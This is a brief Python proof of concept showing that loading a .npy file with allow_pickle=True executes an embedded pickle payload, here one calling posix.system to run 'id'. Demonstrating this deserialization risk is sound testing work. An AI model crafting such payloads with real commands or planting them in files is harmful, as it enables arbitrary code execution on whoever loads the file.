# numpy runs what is in a pickle
import numpy as np
with open("x.npy", "wb") as file:
    file.write(b"cposix\nsystem\n(S'id'\ntR.")
try:
    np.load("x.npy", allow_pickle=True)
except Exception as error:
    print(type(error).__name__)
